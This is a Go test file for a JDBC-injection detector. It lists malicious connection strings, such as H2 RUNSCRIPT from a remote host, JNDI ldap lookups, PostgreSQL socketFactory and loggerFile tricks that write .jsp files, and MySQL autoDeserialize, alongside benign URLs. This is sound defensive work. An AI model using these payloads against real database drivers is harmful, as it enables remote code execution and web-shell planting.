package detect

import "testing"

func TestJDBC(t *testing.T) {
	attacks := []string{
		"jdbc:mysql://h.example:3306/a?autoDeserialize=true&queryInterceptors=a.b.C",
		"jdbc:mysql://203.0.113.9/a?allowUrlInLocalInfile=true",
		"jdbc:h2:mem:a;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://h.example/a.sql'",
		"jdbc:h2:mem:a;init=CREATE TRIGGER b BEFORE SELECT ON c AS $$//javascript",
		"zip:/a.jar!/b.db;MODE=MSSQLServer;INIT=RUNSCRIPT FROM 'x'",
		"jdbc:db2://h:50001/B:clientRerouteServerListJNDIName=ldap://h.example/a;",
		"B:clientRerouteServerListJNDIName=ldap://h.example/a",
		"jdbc:postgresql://h/a?socketFactory=a.b.C&socketFactoryArg=http://h.example/a.xml",
		"jdbc:postgresql:///?loggerLevel=DEBUG&loggerFile=/tmp/a.jsp", "jdbc:postgresql://h/a?loggerFile=../webapps/a.jsp",
		"jdbc:derby:a;startMaster=true;slaveHost=h.example",
		"jdbc:sqlite::resource:http://h.example/a.db", "jdbc:modeshape:ldap://h.example/a",
	}
	for _, p := range [...]Place{InQuery, InForm, InJSON, InXML} {
		recognises(t, Code, Where{Place: p}, attacks, []string{
			"jdbc:mysql://db.example:3306/shop?useSSL=false&serverTimezone=UTC", "jdbc:postgresql://db/shop?sslmode=require", "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1;MODE=MySQL",
			"jdbc:derby:shop;create=true", "jdbc:mysql://db/a?autoDeserialize=false", "init=x", "git init=create", "socketFactory=x", "jdbc:postgresql://db/a?loggerFile=pgjdbc.log",
			"set autoDeserialize = true", "jdbc:postgresql:///a?socketFactory=com.google.cloud.sql.postgres.SocketFactory", "jdbc:h2:./data/shop",
		})
	}
}
